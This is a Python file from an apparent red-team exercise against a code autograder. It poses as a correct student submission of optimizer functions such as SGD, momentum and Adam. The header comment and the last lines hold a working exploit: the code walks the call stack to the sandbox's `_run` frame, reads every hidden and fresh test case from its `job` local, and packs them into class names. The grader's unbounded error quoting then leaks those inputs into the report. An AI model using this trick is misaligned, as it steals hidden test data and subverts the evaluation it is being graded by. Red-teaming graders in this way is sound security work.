# ATTACK (redteam4 #1): unbounded quoting of student text, carrying every hidden and fresh case's
# inputs into the student's own report. At load time the code walks up the frame stack to the
# sandbox's `_run` frame, whose local `job` holds every test's cases (fixed hidden ones and the
# fresh ones drawn for this digest), and names a class after them. FLASHCARD_ANSWERS is an
# instance of that class: flashcards.run refuses it with "`FLASHCARD_ANSWERS` is a <type name>,
# not a dict." and read() quotes that refusal whole (no MAX_QUOTED on CardRefusal.refused).
# nesterov_step is an instance of a second such class: runner.run_cases says "`nesterov_step` is
# a <type name>, not a function or class." (Invalid marker, judged verbatim, no bound either).
# Got: 25 - 2 (nesterov) - 3 (cards) points, and a report quoting ~100 KB of hidden inputs.
"""A complete, correct submission, written differently from the reference solutions:
out-of-place arithmetic copied back into `param`, the textbook form of momentum, a while loop."""

import math

import torch


def gradient_descent(f, x0, *, lr, steps):
    path = [x0.detach().clone()]
    x = x0.detach().clone()
    while len(path) <= steps:
        x.requires_grad_(True)
        loss = f(x)
        loss.backward()
        x = (x - lr * x.grad).detach()
        path.append(x.clone())
    return torch.stack(path)


def sgd_step(param, grad, state, *, lr):
    param.copy_(param - lr * grad)


def momentum_step(param, grad, state, *, lr, momentum):
    # Textbook form: v <- mu v - lr g, theta <- theta + v (same trajectory as torch.optim.SGD)
    if "velocity" not in state:
        state["velocity"] = -lr * grad
    else:
        state["velocity"] = momentum * state["velocity"] - lr * grad
    param.copy_(param + state["velocity"])


def _honest_nesterov_step(param, grad, state, *, lr, momentum):
    buf = state.get("b")
    buf = grad.clone() if buf is None else momentum * buf + grad
    state["b"] = buf
    param.copy_(param - lr * (grad + momentum * buf))


def adagrad_step(param, grad, state, *, lr, eps):
    state["sum"] = state.get("sum", torch.zeros_like(grad)) + grad * grad
    param.copy_(param - lr * grad / (state["sum"].sqrt() + eps))


def rmsprop_step(param, grad, state, *, lr, alpha, eps):
    avg = state.get("avg", torch.zeros_like(grad))
    avg = alpha * avg + (1 - alpha) * grad**2
    state["avg"] = avg
    param.copy_(param - lr * grad / (torch.sqrt(avg) + eps))


def adam_step(param, grad, state, *, lr, beta1, beta2, eps):
    t = state["t"] = state.get("t", 0) + 1
    m = state["m"] = beta1 * state.get("m", torch.zeros_like(grad)) + (1 - beta1) * grad
    v = state["v"] = beta2 * state.get("v", torch.zeros_like(grad)) + (1 - beta2) * grad * grad
    m_hat = m / (1 - math.pow(beta1, t))
    v_hat = v / (1 - math.pow(beta2, t))
    param.copy_(param - lr * m_hat / (v_hat.sqrt() + eps))


class MySGD:
    def __init__(self, params, lr):
        self.params = [p for p in params]
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.params:
                if p.grad is not None:
                    p -= self.lr * p.grad

    def zero_grad(self):
        for p in self.params:
            p.grad = None


class MyAdam(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
        super().__init__(params, {"lr": lr, "betas": betas, "eps": eps})

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is None:
                    continue
                b1, b2 = group["betas"]
                adam_step(p, p.grad, self.state[p], lr=group["lr"], beta1=b1, beta2=b2,
                          eps=group["eps"])
        return loss


# The flash-card quiz: the names may be written as people write them.
import json as _json
import sys as _sys


def _job():
    frame = _sys._getframe()
    while frame is not None and "job" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["job"] if frame is not None else {"tests": "no job"}


_LEAK = _json.dumps(_job()["tests"])
FLASHCARD_ANSWERS = type("LEAK_" + _LEAK, (), {})()
nesterov_step = type("LEAK2_" + _LEAK[:50000], (), {})()
